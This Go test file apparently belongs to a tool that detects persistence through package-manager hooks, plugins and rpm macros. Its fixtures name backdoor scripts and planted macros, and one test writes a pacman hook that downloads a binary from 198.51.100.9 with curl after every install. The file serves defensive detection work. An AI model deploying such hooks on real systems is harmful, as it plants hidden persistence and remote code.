package queries_test

import (
	"crypto/md5"
	"encoding/hex"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestOtherManagersDetections: on the pacman, apk, zypper and rpm fixture
// roots, each detection finds exactly what the package manager runs from a
// file no package owns (test/roots/*.expected.md): not an overridden or
// masked pacman hook, not a hidden or hidden-by-/etc apk hook nor the one
// the motd-hooks package owns, not a zypp plugin root may not execute or a
// subcommand zypper finds elsewhere first, not an rpm plugin rpm never sets
// up, not a macro of a file rpm does not load nor a literal %%.
func TestOtherManagersDetections(t *testing.T) {
	cases := []struct {
		root, query string
		cols        []string
		want        []string
	}{
		{"alpm", "unowned-hooks", []string{"manager", "path"}, []string{
			"pacman /etc/pacman.d/hooks-extra/50-extra.hook",
			"pacman /etc/pacman.d/hooks/20-overridden.hook",
			"pacman /usr/share/libalpm/hooks/45-local.hook",
			"pacman /usr/share/libalpm/hooks/46-relative.hook",
			"pacman /usr/share/libalpm/hooks/70-remove-only.hook",
		}},
		// the fixture's pacman database owns 10-system and 40-pre (which
		// changed since: a finding of modified-package-files instead)
		{"alpm", "modified-package-files", []string{"path", "package"}, []string{
			"/usr/share/libalpm/hooks/40-pre.hook fixture-hooks",
		}},
		// one invalid hook file: pacman runs no hook at all
		{"alpm-broken", "unowned-hooks", []string{"path"}, nil},
		{"apk", "unowned-hooks", []string{"manager", "hook", "path"}, []string{
			"apk pre-commit post-commit /etc/apk/commit_hooks.d/10-backdoor.sh",
			"apk pre-commit post-commit /lib/apk/commit_hooks.d/30-lib-hook",
		}},
		// the hook after it fails at pre-commit and aborts every commit
		{"apk-abort", "unowned-hooks", []string{"hook", "path"}, []string{"pre-commit /etc/apk/commit_hooks.d/10-first.sh"}},
		// apk 2 does not read /lib/apk/commit_hooks.d
		{"apk2", "unowned-hooks", []string{"path"}, []string{"/etc/apk/commit_hooks.d/10-etc.sh"}},
		{"zypp", "unowned-plugins", []string{"manager", "path"}, []string{
			"libzypp /usr/lib/zypp/plugins/appdata/appdata-refresh",
			"libzypp /usr/lib/zypp/plugins/commit/backdoor.sh",
			// a dot name runs: dirForEach skips only . and ..
			"libzypp /usr/lib/zypp/plugins/repoverification/.hidden-verify",
			"libzypp /usr/lib/zypp/plugins/repoverification/verify",
			// again: evil.repo's baseurl=plugin:../commit/backdoor.sh
			"libzypp /usr/lib/zypp/plugins/commit/backdoor.sh",
			"libzypp /usr/lib/zypp/plugins/services/svc-exec",
			"libzypp /usr/lib/zypp/plugins/system/pkgset-changed",
			"libzypp /usr/lib/zypp/plugins/urlresolver/.hidden-lan",
			"libzypp /usr/lib/zypp/plugins/urlresolver/lan",
			"libzypp /usr/lib/zypp/plugins/urlresolver/sub/deep",
			"libzypp /usr/lib/zypp/plugins/urlresolver/sub/packed",
			"zypper /usr/bin/zypper-off",
			"zypper /usr/lib/zypper/commands/zypper-backup",
			"zypper /usr/local/bin/zypper-extra",
		}},
		// syslog is redirected to an object outside %{__plugindir}; the
		// fixture has no package database, so the stock systemd_inhibit.so
		// is unowned too
		{"rpm-plugins", "unowned-plugins", []string{"manager", "name", "path"}, []string{
			"rpm syslog /opt/.x/libsys.so",
			"rpm systemd_inhibit /usr/lib64/rpm-plugins/systemd_inhibit.so",
		}},
		// the plugin whose path a shell computes, and the one disabled
		// with %{nil}, are found by their definitions
		{"rpm-plugins", "rpm-macros-run-code", []string{"path", "line", "name", "effective"}, []string{
			"/etc/rpm/macros.plugins 10 __transaction_ima 1",
			"/etc/rpm/macros.plugins 2 __transaction_selinux 1",
			"/etc/rpm/macros.plugins 4 __transaction_syslog 1",
			"/etc/rpm/macros.plugins 6 __transaction_prioreset 1",
			"/etc/rpm/macros.plugins 8 __transaction_ghost 1",
			"/usr/lib/rpm/macros 10 __transaction_syslog 0",
			"/usr/lib/rpm/macros 11 __transaction_ima 0",
			"/usr/lib/rpm/macros 12 __transaction_prioreset 0",
			"/usr/lib/rpm/macros 7 __plugindir 1",
			"/usr/lib/rpm/macros 8 __transaction_systemd_inhibit 1",
			"/usr/lib/rpm/macros 9 __transaction_selinux 0",
		}},
		{"rpm-macros", "rpm-macros-run-code", []string{"path", "line", "name", "effective"}, []string{
			"/etc/rpm/macros.aa 2 _tmppath 1",
			"/etc/rpm/macros.aa 4 __probe 1",
			"/etc/rpm/macros.aa 5 __probe_db 1",
			"/etc/rpm/macros.aa 6 _install_langs 1",
			// escaped code any re-expanding macro runs, and two that do
			"/etc/rpm/macros.aa 7 __probe_esc 1",
			"/etc/rpm/macros.aa 8 __probe_use 1",
			"/etc/rpm/macros.aa 9 __probe_blank 1",
			"/etc/rpm/macros 2 __transaction_syslog 1",
			"/home/alice/.rpmmacros 1 _topdir 0",
			"/home/carol/.config/rpm/macros 1 carol_xdg 1",
			"/home/carol/.rpmmacros 1 carol_old 1",
			"/root/.rpmmacros 1 __transaction_evil 1",
			"/usr/lib/rpm/macros.d/macros.planted 12 open_paren 1",
			"/usr/lib/rpm/macros.d/macros.planted 2 _dbpath 1",
			"/usr/lib/rpm/macros.d/macros.planted 3 __transaction_syslog 0",
			"/usr/lib/rpm/macros.d/macros.planted 4 lua_hook 1",
			"/usr/lib/rpm/macros.d/macros.planted 5 nested 1",
			// 100%%(not a shell): text when expanded, code when re-expanded
			"/usr/lib/rpm/macros.d/macros.planted 6 percent 1",
			"/usr/lib/rpm/macros 5 __plugindir 1",
			"/usr/lib/rpm/macros 6 __transaction_systemd_inhibit 1",
			"/usr/lib/rpm/macros 7 __transaction_syslog 0",
			"/usr/lib/rpm/macros 8 __transaction_selinux 1",
			"/usr/lib/rpm/macros 9 _tmppath 0",
		}},
		{"rpm-macros", "download-in-hooks", []string{"manager", "hook", "path"}, []string{
			// twice: the macro's value matched, and hook_targets' row for
			// the command of its %( ), which feeds a download to a shell
			"rpm _dbpath /usr/lib/rpm/macros.d/macros.planted",
			"rpm _dbpath /usr/lib/rpm/macros.d/macros.planted",
		}},
	}
	for _, c := range cases {
		got := detect(t, filepath.Join("../test/roots", c.root), c.cols, c.query)[c.query]
		slices.Sort(c.want)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s on %s:\n got %q\nwant %q", c.query, c.root, got, c.want)
		}
	}
}

// TestOtherManagersOwned: the same roots with every file owned by a dpkg
// package (as on a host where the hooks came with packages) leave the
// unowned detections empty, except each user's macro file, which no
// package has a reason to ship; a packaged macro file whose content
// changed is found again, by rpm-macros-run-code and
// modified-package-files.
func TestOtherManagersOwned(t *testing.T) {
	for _, root := range []string{"alpm", "apk", "apk-abort", "apk2", "zypp", "rpm-plugins", "rpm-macros"} {
		dir := ownedCopy(t, root)
		for _, q := range []string{"unowned-hooks", "unowned-plugins", "modified-package-files"} {
			if got := detect(t, dir, []string{"path"}, q)[q]; len(got) != 0 {
				t.Errorf("%s on %s with every file packaged: %q", q, root, got)
			}
		}
		want := []string(nil)
		if root == "rpm-macros" {
			want = []string{"/home/alice/.rpmmacros fixture-owner", "/home/carol/.config/rpm/macros fixture-owner", "/home/carol/.rpmmacros fixture-owner", "/root/.rpmmacros fixture-owner"}
		}
		if got := detect(t, dir, []string{"path", "package"}, "rpm-macros-run-code")["rpm-macros-run-code"]; !slices.Equal(got, want) {
			t.Errorf("rpm-macros-run-code on %s with every file packaged: %q, want %q", root, got, want)
		}
	}
	dir := ownedCopy(t, "rpm-macros")
	planted := filepath.Join(dir, "usr/lib/rpm/macros.d/macros.planted")
	f, err := os.OpenFile(planted, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("# changed\n"); err != nil {
		t.Fatal(err)
	}
	f.Close()
	if got, want := detect(t, dir, []string{"source_table", "path"}, "modified-package-files")["modified-package-files"], []string{"rpm_macros /usr/lib/rpm/macros.d/macros.planted"}; !slices.Equal(got, want) {
		t.Errorf("modified-package-files: %q, want %q", got, want)
	}
	got := detect(t, dir, []string{"path", "name", "package_modified"}, "rpm-macros-run-code")["rpm-macros-run-code"]
	want := []string{
		"/home/alice/.rpmmacros _topdir 0",
		"/home/carol/.config/rpm/macros carol_xdg 0",
		"/home/carol/.rpmmacros carol_old 0",
		"/root/.rpmmacros __transaction_evil 0",
		"/usr/lib/rpm/macros.d/macros.planted __transaction_syslog 1",
		"/usr/lib/rpm/macros.d/macros.planted _dbpath 1",
		"/usr/lib/rpm/macros.d/macros.planted lua_hook 1",
		"/usr/lib/rpm/macros.d/macros.planted nested 1",
		"/usr/lib/rpm/macros.d/macros.planted open_paren 1",
		"/usr/lib/rpm/macros.d/macros.planted percent 1",
	}
	if slices.Sort(want); !slices.Equal(got, want) {
		t.Errorf("rpm-macros-run-code with macros.planted changed:\n got %q\nwant %q", got, want)
	}
}

// ownedCopy copies a fixture root (symlinks as symlinks) and records every
// regular file in it as a file of the dpkg package fixture-owner, with its
// MD5, as dpkg's info directory does.
func ownedCopy(t *testing.T, root string) string {
	t.Helper()
	dir := t.TempDir()
	copyRoot(t, dir, filepath.Join("../test/roots", root)+"/.")
	var list, sums strings.Builder
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		sum := md5.Sum(b)
		list.WriteString("/" + rel + "\n")
		sums.WriteString(hex.EncodeToString(sum[:]) + "  " + rel + "\n")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	info := filepath.Join(dir, "var/lib/dpkg/info")
	if err := os.MkdirAll(info, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, s := range map[string]string{"fixture-owner.list": list.String(), "fixture-owner.md5sums": sums.String()} {
		if err := os.WriteFile(filepath.Join(info, name), []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestPacmanExecDownloads: a pacman hook whose program is the downloader
// (Exec is argv, no shell) is found by download-in-hooks as a hook
// whose command line says curl is: the exec column is a JSON array, where
// "curl" is followed by a quote, not a space.
func TestPacmanExecDownloads(t *testing.T) {
	root := t.TempDir()
	hook := filepath.Join(root, "usr/share/libalpm/hooks/zz.hook")
	if err := os.MkdirAll(filepath.Dir(hook), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hook, []byte("[Trigger]\nOperation = Install\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/curl -so /usr/local/bin/x http://198.51.100.9/x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	got := detect(t, root, []string{"manager", "command"}, "download-in-hooks")["download-in-hooks"]
	if want := []string{"pacman /usr/bin/curl -so /usr/local/bin/x http://198.51.100.9/x"}; !slices.Equal(got, want) {
		t.Errorf("download-in-hooks: %q, want %q", got, want)
	}
}
